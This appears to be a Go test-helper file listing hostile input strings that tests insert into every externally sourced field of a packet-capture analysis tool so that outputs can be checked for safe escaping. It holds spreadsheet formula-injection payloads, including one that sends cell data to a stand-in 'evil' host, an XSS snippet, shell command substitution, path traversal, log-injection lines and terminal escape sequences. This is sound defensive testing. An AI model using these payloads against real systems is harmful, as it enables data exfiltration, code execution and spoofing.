package pcaptest

import "strings"

// HostileName is a text that takes advantage of some form of output.
type HostileName struct{ What, Text string }

// HostileNames are the names that tests put in every place of a name from
// outside (user, DN, workstation, realm, annotation, interface, file, comment)
// and look for in every output.
func HostileNames() []HostileName {
	return []HostileName{
		{"control characters", "a\x00\x07\x08\x7fb"},
		{"line ends", "a\r\nmapiscope: b\n"},
		{"other line ends", "a\u0085b\u2028c\u2029d\vf\fg"},
		{"ANSI sequences", "\x1b[2J\x1b]0;title\x07\x1b[31mred"},
		{"C1 sequences", "\u009b31mred\u009d0;title\u009c"},
		{"bidi", "user\u202etxt.exe\u2066x\u2069\u200f"},
		{"invisible", "a\u200b\u200c\u200d\u2060\ufeff\u00adb\U000e0041"},
		{"combining marks", "Z" + strings.Repeat("\u0335\u0338\u0301\u0489", 40) + "!"},
		{"marks alone", "\u0301\u0489 \u20ddx"},
		{"formula", "=cmd|'/c calc'!A0"},
		{"formula with a link", `=HYPERLINK("http://evil/?"&A1,"x")`},
		{"formula plus", "+1+cmd|'/c calc'!A0"},
		{"formula minus", "-2+3+cmd|'/c calc'!A0"},
		{"formula at", "@SUM(1+1)*cmd|'/c calc'!A0"},
		{"formula behind a tab", "\t=1+1"},
		{"formula behind a return", "\r=1+1"},
		{"formula behind a space", " =1+1"},
		{"formula in full width", "＝1＋1"},
		{"quotes", "a\"b'c`d\\e\"\"f''g"},
		{"separators", "a,b;c\td|e :f : g"},
		{"markup", `</script><img src=x onerror=alert(1)>&amp;<!--`},
		{"shell", "$(touch /tmp/x); `id` && x | y > z # & ! * ? ~ {a,b} %s %n \\n"},
		{"JSON", `"},{"record":"totals","x":"`},
		{"labels", "x\"} 1\nmapiscope_evil 1\n{"},
		{"dash first", "-r --help"},
		{"no Unicode", "a\xff\xfe\xc3b\xed\xa0\x80"},
		{"wide", strings.Repeat("漢字", 60)},
		{"long", strings.Repeat("long", 100)},
		{"template", "%s%d%!(EXTRA) {{.}} ${x} %{y}"},
		{"path", "../../etc/passwd"},
	}
}
